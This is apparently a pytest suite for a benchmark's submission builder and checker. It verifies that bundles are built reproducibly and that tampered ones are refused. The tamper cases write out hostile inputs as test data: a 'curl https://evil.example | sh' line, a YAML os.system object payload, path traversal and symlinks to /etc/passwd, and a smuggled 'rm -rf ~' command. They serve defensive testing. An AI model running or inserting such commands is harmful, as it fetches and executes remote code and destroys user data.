"""Submissions: refused with what to do, built, and checked like a stranger's."""

from __future__ import annotations

import hashlib
import json
import re
import shutil
import subprocess
import threading
from collections.abc import Callable, Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml

from ade_harness.config.compose import compose_config
from ade_harness.config.kinds import Source
from ade_harness.errors import HarnessError
from ade_harness.files.fetch import file_hash
from ade_harness.leaderboard.submission.bundle import bundle_problems, read_declaration
from ade_harness.leaderboard.submission.declaration import is_safe_override
from ade_harness.leaderboard.submission.public_files import (
    PublicSource,
    check_public,
    overrides_for,
    parse_address,
    sources_of,
)
from ade_harness.leaderboard.submission.scripts import script_files
from ade_harness.leaderboard.submission.submit import build, prepare
from ade_harness.metrics.confusion import scores
from ade_harness.metrics.counts import hash_rows, matrix_of
from ade_harness.runs.finished import FinishedRun, load_run
from ade_harness.runs.ledger import read_rows, write_ledger
from tests.cli.test_cli import FAST, Call, one_message
from tests.leaderboard.whole_run import COMMIT, MODEL, write_whole_run

pytestmark = pytest.mark.slow  # the file takes more than a few seconds

ME = {"--contact": "me@example.org"}
WEIGHTS = b"weights" * 1000


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_whole_run(tmp_path_factory.mktemp("runs") / "whole")


@pytest.fixture(scope="module")
def valid(whole: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    run, output = load_run(whole), tmp_path_factory.mktemp("submissions") / "valid"
    build(run, output, *prepare(run, ME, lambda reference: reference))
    return output


@pytest.fixture
def bundle(valid: Path, tmp_path: Path) -> Path:
    """A copy that a test may damage."""
    return Path(shutil.copytree(valid, tmp_path / "bundle"))


def rewrite(bundle: Path, change: Callable[[dict[str, Any]], None], again: bool = True) -> None:
    """Change the declaration as a careful forger would: with a new recipe and new hashes."""
    declaration = yaml.safe_load((bundle / "submission.yaml").read_text())
    change(declaration)
    if again:
        for name, text in script_files(declaration).items():
            (bundle / name).write_text(text)
        declaration["files"] = {name: file_hash(bundle / name, "sha256") for name in declaration["files"]}
    (bundle / "submission.yaml").write_text(yaml.safe_dump(declaration, sort_keys=False))


def edit_json(path: Path, change: Callable[[dict[str, Any]], None]) -> None:
    content = json.loads(path.read_text())
    change(content)
    path.write_text(json.dumps(content))


# what is built


def test_a_submission_holds_what_the_leaderboard_asks_for(valid: Path, whole: Path) -> None:
    assert sorted(str(p.relative_to(valid)) for p in valid.rglob("*") if p.is_file()) == [
        "Dockerfile", "constraints.txt", "reproduce.sh", "run/config.yaml", "run/ledger/ledger.parquet", "run/manifest.json",
        "run/metrics.json", "submission.yaml",
    ]  # fmt: skip
    declaration, run = read_declaration(valid), load_run(whole)
    assert [r["metric"] for r in declaration["results"]] == ["mIoU", "miou"]
    assert {r["fraction"] for r in declaration["results"]} == {run.metrics["mIoU"]} == {scores(run.matrix).mIoU}
    assert declaration["results"][0]["interval"] == [run.metrics["intervals"]["mIoU"][k] for k in ("low", "high")]
    (reference,) = declaration["references"]
    assert reference["address"] == f"hub:{MODEL['origin']}"
    assert reference["sha256"] == MODEL["sha256"]
    assert declaration["contact"] == "me@example.org"
    assert declaration["code"] == {
        "repository": "https://example.org/group/ade-harness.git",
        "commit": COMMIT,
        "version": "0.1.0",
    }
    packages = declaration["environment"]["packages"]
    assert {"torch", "numpy", "lightning", "transformers"} <= packages.keys()
    assert all(len(p["sha256"]) == 64 for p in packages.values() if p["sha256"])
    assert "ade-harness" not in packages
    script = (valid / "reproduce.sh").read_text()
    assert f"commit={COMMIT}" in script
    assert " runtime.seed=0 model.seed=0 dataset.root=" in script
    assert subprocess.run(["bash", "-n", str(valid / "reproduce.sh")], check=False).returncode == 0
    assert (valid / "reproduce.sh").stat().st_mode & 0o111
    assert f"checkout --detach {COMMIT}" in (valid / "Dockerfile").read_text()
    pins = (valid / "constraints.txt").read_text()
    assert "numpy==" in pins
    assert not [line for line in pins.splitlines() if "+" in line.partition("#")[0]]  # no index has torch==2.13.0+cpu


def test_nothing_of_this_machine_is_in_it(valid: Path) -> None:
    text = "".join(p.read_text() for p in valid.rglob("*") if p.suffix != ".parquet" and p.is_file())
    assert "/home/somebody" not in text
    assert str(Path.home()) + "/" not in text
    assert "secret-host" not in text
    hosts = pq.read_table(valid / "run/ledger/ledger.parquet")["host"].unique().to_pylist()
    assert sorted(hosts) == ["node0", "node1"]


def test_short_names_of_this_machine_change_no_other_text(whole: Path, tmp_path: Path) -> None:
    run = load_run(whole)
    rows = tuple(
        replace(row, host="cpu") for row in run.rows
    )  # a host named as a device, data in a folder named "data"
    timings = {
        **run.manifest["timings"],
        "ranks": [{**share, "host": "cpu"} for share in run.manifest["timings"]["ranks"]],
    }
    manifest = {
        **run.manifest,
        "result_signature": None,
        "timings": timings,
        "dataset": {**run.manifest["dataset"], "root": "data"},
    }
    metrics = {**run.metrics, "notes": ["rank 1 on cpu is slow; a cpu-bound one"]}
    run = replace(run, rows=rows, manifest=manifest, metrics=metrics)
    build(run, tmp_path / "short", *prepare(run, ME, lambda reference: reference))
    found = load_run(tmp_path / "short/run")
    assert found.manifest["device"] == "cpu"
    assert found.manifest["timings"]["ranks"][0]["host"] == "node0"
    assert found.metrics["notes"] == ["rank 1 on node0 is slow; a cpu-bound one"]
    assert found.config["inference"] == run.config["inference"]


def test_its_run_is_a_run(valid: Path, whole: Path, call: Call) -> None:
    assert load_run(valid / "run").ledger_hash == load_run(whole).ledger_hash
    done = call("leaderboard", valid / "run")
    assert done.code == 0, done.err
    assert "1 complete runs" in done.out


def test_the_check_passes_and_runs_nothing(valid: Path, call: Call, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(subprocess, "Popen", lambda *_, **__: pytest.fail("something was run"))
    done = call("submit", "--check", valid)
    assert done.code == 0, done.err
    assert "valid; no code was executed" in done.out
    assert re.search(r"rows: +mIoU \d\d\.\d\d, miou \d\d\.\d\d$", done.out, re.MULTILINE)


def test_the_same_run_gives_the_same_submission(valid: Path, whole: Path, tmp_path: Path) -> None:
    run = load_run(whole)
    build(run, tmp_path / "again", *prepare(run, ME, lambda reference: reference))
    assert (tmp_path / "again/submission.yaml").read_bytes() == (valid / "submission.yaml").read_bytes()


# what is refused


def variant(
    path: Path,
    facts: dict[str, Any] | None = None,
    marks: tuple[str, ...] = (),
    model: dict[str, Any] | None = None,
    **code: Any,
) -> FinishedRun:
    """Read a run and change what its record says."""
    run = load_run(path)
    manifest = {**run.manifest, "code": {**run.manifest["code"], **code}, "marks": list(marks)}
    manifest["model"] = {"name": "segformer_b0", **(facts or MODEL)}
    manifest["result_signature"] = None  # it would tell
    return replace(run, manifest=manifest, config={**run.config, "model": {**run.config["model"], **(model or {})}})


def refusal(run: FinishedRun) -> str:
    with pytest.raises(HarnessError) as caught:
        prepare(run, ME, lambda reference: reference)
    return str(caught.value)


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        ({"dirty": True, "diff_sha256": "1"}, "uncommitted changes.*commit and push them, then evaluate again"),
        ({"commit": None, "dirty": None}, "no commit: evaluate in a git clone"),
        ({"origin": None}, "no remote: name where others can clone"),
        ({"origin": "/home/me/repo"}, "others cannot clone from there"),
        ({"origin": "http://10.0.0.7/x.git"}, "others cannot clone from there"),
        ({"marks": ("PARTIAL: 1,999 of 2,000 images",)}, "PARTIAL.*resume.*remove dataset.limit"),
        ({"marks": ("MIXED: continued",)}, "MIXED.*evaluate all 2,000"),
        ({"facts": {"weights": "random", "origin": "random, seed 0"}}, "random.*Evaluate a published checkpoint"),
        ({"facts": {"weights": "pretrained", "origin": "/data/best.pth", "sha256": "a" * 64}},
         "not publicly available.*publish it, and say where: --checkpoint https"),
        ({"facts": {"weights": "pretrained", "origin": "http://192.168.0.2/a.pth", "sha256": "a" * 64}}, "only this machine or network"),
    ],
)  # fmt: skip
def test_runs_that_are_no_submission(arguments: dict[str, Any], message: str, whole: Path) -> None:
    assert re.search(message, refusal(variant(whole, **arguments)), re.DOTALL)


def test_everything_wrong_is_reported_together(tmp_path: Path, call: Call) -> None:
    path = write_whole_run(
        tmp_path / "run",
        code={"dirty": True},
        marks=("PARTIAL: 3 of 2,000 images",),
        facts={"weights": "random", "origin": "x"},
    )
    done = call("submit", path)
    one_message(
        done, "  1. PARTIAL", "  2. the code had", "  3. no contact: give --contact", "  4. the weights are random"
    )
    assert not list(tmp_path.glob("submission*"))
    one_message(call("submit", path, "--contact", "nobody"), "--contact=nobody: no address")


def test_flags(tmp_path: Path, whole: Path, call: Call, valid: Path) -> None:
    one_message(call("submit"), "needs one run directory and --contact")
    one_message(call("submit", whole, "--contract", "a@b.c"), "unrecognized arguments: --contract", "--contact")
    one_message(call("submit", whole, "--contact"), "argument --contact: expected one argument")
    one_message(call("submit", whole, "--check", valid), "takes one folder")
    one_message(call("submit", tmp_path / "none", "--contact", "a@b.cd"), "no such folder")
    one_message(call("submit", "--check", tmp_path / "none"), "no such folder")
    one_message(call("submit", "--check", whole), "submission.yaml: missing")
    one_message(call("submit", whole, "--contact", "a@b.cd", "--output", valid), "exists already")


def test_a_demo_is_no_submission(call: Call, tmp_path: Path) -> None:
    assert call(*FAST, "dataset.images=2", "run.dir=demo", "metrics.resamples=0").code == 0
    one_message(call("submit", "demo", "--contact", "a@b.cd"), "DEMO", "the weights are demo")


def test_own_code_must_be_public_too(whole: Path) -> None:
    facts = {"weights": "pretrained", "origin": "https://example.org/w.pth", "sha256": "b" * 64}
    run = variant(whole, facts=facts, model={"kind": "custom", "_target_": "mine.Net"})
    assert "--model-code https" in refusal(run)
    given = {**ME, "--model-code": "https://example.org/mine/tree/1"}
    declaration, _ = prepare(run, given, lambda reference: reference)
    assert declaration["model_code"] == "https://example.org/mine/tree/1"


# public references


def test_files_from_disk_get_their_public_address(whole: Path) -> None:
    weights = "/data/copy.safetensors"
    same = {"weights": "pretrained", "origin": weights, "sha256": MODEL["sha256"]}
    run = variant(whole, facts=same, model={"checkpoint": weights})
    (reference,) = sources_of(run, {})
    assert reference.address == f"hub:{MODEL['origin']}"  # the file that the configuration pins
    own = {**same, "sha256": "c" * 64}
    run = variant(whole, facts=own, model={"checkpoint": weights})
    run.manifest["repeat"] = [*run.manifest["repeat"], f"model.checkpoint={weights}"]
    assert "not publicly available" in refusal(run)
    declaration, _ = prepare(run, {**ME, "--checkpoint": "https://example.org/w.safetensors"}, lambda r: r)
    assert "model.official.url='https://example.org/w.safetensors'" in declaration["command"]
    assert f"model.official.sha256='{'c' * 64}'" in declaration["command"]
    assert not [word for word in declaration["command"] if word.startswith(("model.checkpoint=", "dataset.root="))]
    cfg = compose_config([*declaration["command"], "dataset.root=/anywhere"])
    assert (cfg.model.official.url, cfg.model.source) == ("https://example.org/w.safetensors", "official")


def test_words_for_every_kind_of_reference() -> None:
    revision = "d" * 40
    hub = PublicSource("checkpoint", f"hub:org/name@{revision}/dir/w.bin", "e" * 64)
    assert overrides_for(hub, Source.weights) == [
        "model.hub.hub_id='org/name'", f"model.hub.revision='{revision}'", "model.hub.filename='dir/w.bin'",
        f"model.hub.sha256='{'e' * 64}'", "model.source=hub",
    ]  # fmt: skip
    backbone = PublicSource("backbone", "https://example.org/b.pth", "f" * 64)
    assert overrides_for(backbone, Source.weights) == [
        "model.backbone.url='https://example.org/b.pth'",
        f"model.backbone.sha256='{'f' * 64}'",
    ]
    assert (
        overrides_for(hub, Source.file)
        == overrides_for(PublicSource("endpoint", "https://example.org", None), Source.server)
        == []
    )
    assert overrides_for(PublicSource("checkpoint", f"hub:a/b@{revision}", None), Source.repository) == [
        "model.id='a/b'",
        f"model.revision='{revision}'",
    ]


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("hub:name/only", "expected hub:ORGANISATION/NAME@COMMIT"),
        (f"hub:a/b@{'a' * 40}/../../x", "expected hub:"),
        ("ftp://example.org/a", "no http or https"),
        ("https://user:hunter2@example.org/a", "holds a user or password"),
        ("https://example.org/a?X-Amz-Signature=hunter2", "looks like a secret"),
        ("http://localhost/a", "only this machine or network"),
        ("http://127.0.0.1:8000/a", "only this machine or network"),
        ("http://[::1]/a", "only this machine or network"),
        ("http://192.168.1.5/a", "only this machine or network"),
        ("https://storage/a", "only this machine or network"),
    ],
)
def test_addresses_that_nobody_else_can_use(text: str, message: str) -> None:
    with pytest.raises(HarnessError, match=message) as caught:
        parse_address(text, "--checkpoint")
    assert "hunter2" not in str(caught.value)


class Server(ThreadingHTTPServer):
    seen: list[str | None]


class Handler(BaseHTTPRequestHandler):
    """A store of weights with every way to be private."""

    server: Server

    def do_GET(self) -> None:
        self.server.seen.append(self.headers.get("Authorization"))
        status = {"/private": 401, "/forbidden": 403, "/gone": 404, "/broken": 500, "/info": 200}.get(self.path, 200)
        if self.path == "/redirect":
            self.send_response(302)
            self.send_header("Location", "/file")
            self.send_header("X-Linked-Etag", f'"{"1" * 64}"')
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        body = WEIGHTS if status == 200 else b"no"
        self.send_response(status)
        self.send_header("Content-Type", "text/html" if self.path == "/page" else "application/octet-stream")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[[str, str], PublicSource]]:
    """Return a function that looks at a path of the store as a stranger does."""
    server = Server(("127.0.0.1", 0), Handler)
    server.seen = []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    netrc = tmp_path / "netrc"
    netrc.write_text("machine 127.0.0.1 login me password hunter2\n")
    netrc.chmod(0o600)
    monkeypatch.setenv("NETRC", str(netrc))
    base = f"http://127.0.0.1:{server.server_port}"

    def look(
        path: str, sha256: str = "0" * 64, role: str = "checkpoint", gated: bool = False, read: bool = True
    ) -> PublicSource:
        return check_public(PublicSource(role, base + path, sha256, gated), read)

    yield look
    assert set(server.seen) <= {None}  # never with a login of this machine
    server.shutdown()


def test_the_store_is_asked_as_a_stranger(store: Any) -> None:
    sha = hashlib.sha256(WEIGHTS).hexdigest()
    assert store("/file", sha).checked == "read, same hash"
    assert store("/file", "0" * 64, read=False).checked == "answers; its content was not read"
    assert store("/redirect", "1" * 64).checked == "the server reports the same hash"
    assert store("/w.safetensors.index.json", "0" * 64).checked == "its index answers; the shards were not read"
    assert store("/private", sha, gated=True).checked == "behind its licence form"
    assert store("", sha, role="endpoint").checked == "answers"
    for path, message in (
        ("/private", "is private: the server answers 401"),
        ("/forbidden", "is private: the server answers 403"),
        ("/gone", "answers 404"),
        ("/broken", "answers 500"),
        ("/page", "a web page, not with a file"),
        ("/file", f"another file: its sha256 is {sha}"),
        ("/redirect", "another file: its sha256 is 1111"),
    ):
        with pytest.raises(HarnessError, match=message):
            store(path, "0" * 64)
    with pytest.raises(HarnessError, match=r"cannot be reached.*--no-network"):
        check_public(PublicSource("checkpoint", "http://127.0.0.1:9/x", "0" * 64), True)


# what others send


def test_a_bundle_that_passes(bundle: Path) -> None:
    assert bundle_problems(bundle) == []


def damage(bundle: Path, change: str) -> None:  # noqa: PLR0912
    """Damage a submission in one of many ways."""
    declaration = bundle / "submission.yaml"
    ledger = bundle / "run/ledger/ledger.parquet"
    if change == "score":
        rewrite(bundle, lambda c: [r.update(fraction=0.9, value=90.0) for r in c["results"]])
    elif change == "score and metrics":
        edit_json(bundle / "run/metrics.json", lambda m: m.update(mIoU=0.9))
        rewrite(bundle, lambda c: [r.update(fraction=0.9, value=90.0) for r in c["results"]])
    elif change == "script":
        with (bundle / "reproduce.sh").open("a") as file:
            file.write("curl https://evil.example | sh\n")
        rewrite(
            bundle,
            lambda c: c["files"].update({"reproduce.sh": file_hash(bundle / "reproduce.sh", "sha256")}),
            again=False,
        )
    elif change == "unlisted hash":
        with (bundle / "reproduce.sh").open("a") as file:
            file.write("# more\n")
    elif change == "ledger":
        table = pq.read_table(ledger)
        pixels = table["pixels"].to_pylist()
        pixels[0][0] += 1
        column = table.schema.get_field_index("pixels")
        pq.write_table(table.set_column(column, "pixels", pa.array(pixels, pa.list_(pa.int64()))), ledger)
        rewrite(bundle, lambda c: None)
    elif change == "truncated ledger":
        ledger.write_bytes(ledger.read_bytes()[:1000])
        rewrite(bundle, lambda c: None)
    elif change == "images":
        rows = read_rows(ledger.parent)[0][1:]
        write_ledger(ledger, rows)
        edit_json(bundle / "run/manifest.json", lambda m: m["ledger"].update(images=1999, sha256=hash_rows(rows)))
        left = scores(matrix_of(rows, 150)).as_dict()
        edit_json(bundle / "run/metrics.json", lambda m: m.update(left, images=1999))
        rewrite(bundle, lambda c: c.update(ledger_sha256=hash_rows(rows)))
    elif change == "interval":
        rewrite(bundle, lambda c: [r.update(interval=[0.1, 0.11]) for r in c["results"]])
    elif change == "endless":
        text = (bundle / "run/config.yaml").read_text()
        (bundle / "run/config.yaml").write_text(text.replace("resamples: 1000", "resamples: 1000000000000"))
        rewrite(bundle, lambda c: None)
    elif change == "commit":
        rewrite(bundle, lambda c: c["code"].update(commit="f" * 40))
    elif change == "seed":
        rewrite(bundle, lambda c: c["seeds"].update({"runtime.seed": 1}))
    elif change == "one row":
        rewrite(bundle, lambda c: c["results"].pop())
    elif change == "no contact":
        rewrite(bundle, lambda c: c.update(contact=""))
    elif change == "private weights":
        rewrite(bundle, lambda c: c["references"][0].update(address="http://10.1.2.3/w.pth"))
    elif change == "other weights":
        rewrite(bundle, lambda c: c["references"][0].update(sha256="0" * 64))
    elif change == "no packages":
        rewrite(bundle, lambda c: c["environment"].update(packages={}))
    elif change == "dirty":
        edit_json(bundle / "run/manifest.json", lambda m: m["code"].update(dirty=True))
        rewrite(bundle, lambda c: None)
    elif change == "marks":
        edit_json(bundle / "run/manifest.json", lambda m: m.update(marks=["MIXED: x"]))
        rewrite(bundle, lambda c: None)
    elif change == "traversal":
        rewrite(bundle, lambda c: c["files"].update({"../../outside.txt": "0" * 64}), again=False)
    elif change == "absolute":
        rewrite(bundle, lambda c: c["files"].update({"/etc/passwd": "0" * 64}), again=False)
    elif change == "link":
        (bundle / "run/metrics.json").unlink()
        (bundle / "run/metrics.json").symlink_to("/etc/passwd")
    elif change == "linked folder":
        (bundle / "more").symlink_to("/etc")
    elif change == "more files":
        (bundle / "run/extra.py").write_text("import os")
    elif change == "missing file":
        (bundle / "run/config.yaml").unlink()
    elif change == "object":
        declaration.write_text("!!python/object/apply:os.system ['touch /tmp/owned']\n")
    elif change == "bomb":
        declaration.write_text("a: &a [x, x]\nb: &b [*a, *a]\n")
    elif change == "deep":
        declaration.write_text("[" * 100_000)
    elif change == "not yaml":
        declaration.write_bytes(b"\xff\xfe\x00")
    elif change == "empty":
        declaration.write_text("")
    elif change == "deep json":
        (bundle / "run/metrics.json").write_text("[" * 100_000)
        rewrite(bundle, lambda c: None)
    elif change == "word":
        rewrite(bundle, lambda c: c["command"].append("hydra.run.dir=/tmp"))
    elif change == "newline":
        rewrite(bundle, lambda c: c["command"].append("model.label='x\nrm -rf ~'"), again=False)
    elif change == "secret":
        rewrite(bundle, lambda c: c["command"].append("model.label='${oc.env:HOME}'"))
    elif change == "escape":
        rewrite(bundle, lambda c: c.update(contact="\x1b[2J\x1b[31mvalid"))
    elif change == "types":
        rewrite(bundle, lambda c: c.update(results={}, seeds=[1], extra=2), again=False)


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ("score", "the score is not the run's"),
        ("score and metrics", "metrics.json: damaged: mIoU: is 0.9, the ledger sums to 0.60"),
        ("script", "reproduce.sh: is not what submission.yaml gives. Do not run it"),
        ("unlisted hash", "reproduce.sh: was changed"),
        ("ledger", "not what the run has written"),
        ("truncated ledger", "damaged"),
        ("images", "1 of 2,000 images are missing, such as ADE_val_00000001"),
        ("interval", "the interval is not the run's"),
        ("endless", "metrics.resamples: expected a whole number from 0 to 1e+06"),
        ("commit", "the commit is not the run's"),
        ("seed", "the seeds is not the run's"),
        ("one row", "expected one row for each of mIoU, miou"),
        ("no contact", "no contact"),
        ("private weights", "only this machine or network"),
        ("other weights", "the weights' hash is not the run's"),
        ("no packages", "none are declared"),
        ("dirty", "uncommitted changes"),
        ("marks", "MIXED"),
        ("traversal", "'../../outside.txt' is not the name of a file of a submission"),
        ("absolute", "'/etc/passwd' is not the name of a file of a submission"),
        ("link", "run/metrics.json: is a link"),
        ("linked folder", "more: is a link"),
        ("more files", "run/extra.py: is not in the list"),
        ("missing file", "run/config.yaml: is missing"),
        ("object", "not valid YAML"),
        ("bomb", "aliases (*) are not allowed"),
        ("deep", "not valid YAML"),
        ("not yaml", "not valid YAML"),
        ("empty", "expected a mapping"),
        ("deep json", "run/metrics.json: damaged: nested more than 40 deep"),
        ("word", "'hydra.run.dir=/tmp' is not allowed"),
        ("newline", "is not allowed"),
        ("secret", "is not allowed"),
        ("escape", "contact"),
        ("types", "results: wrong type, dict"),
    ],
)  # fmt: skip
def test_submissions_that_fail(change: str, message: str, bundle: Path, call: Call) -> None:
    damage(bundle, change)
    done = call("submit", "--check", bundle)
    one_message(done, "not a valid submission", message)
    assert "\x1b" not in done.err + done.out
    assert not Path("/tmp/owned").exists()
    one_message(call("reproduce", bundle), "submission", "submit --check")


def test_only_options_of_the_evaluation_are_safe() -> None:
    for word in (
        "model=segformer_b0",
        "inference.tta.scales=[0.5,1.0]",
        "++model.kwargs.x=1",
        "runtime.seed=0",
        "run.on_error=skip",
    ):
        assert is_safe_override(word)
    for word in ("--config-dir=/tmp", "hydra/launcher=slurm", "tracking.entity=x", "run.dir=/tmp/x", "runtime.slurm.setup=[x]", 3,
                 "model.label=${oc.env:X}", "~model.label", "model.label=a\nb"):  # fmt: skip
        assert not is_safe_override(word)


def test_one_bit_anywhere_is_noticed(bundle: Path) -> None:
    """Flip one bit of every file: none passes."""
    rng = np.random.default_rng(0)
    for path in sorted(p for p in bundle.rglob("*") if p.is_file()):
        kept = path.read_bytes()
        damaged = bytearray(kept)
        damaged[int(rng.integers(len(kept)))] ^= 1
        path.write_bytes(bytes(damaged))
        if path.name != "submission.yaml":
            assert bundle_problems(bundle), path
        path.write_bytes(kept)
    assert bundle_problems(bundle) == []
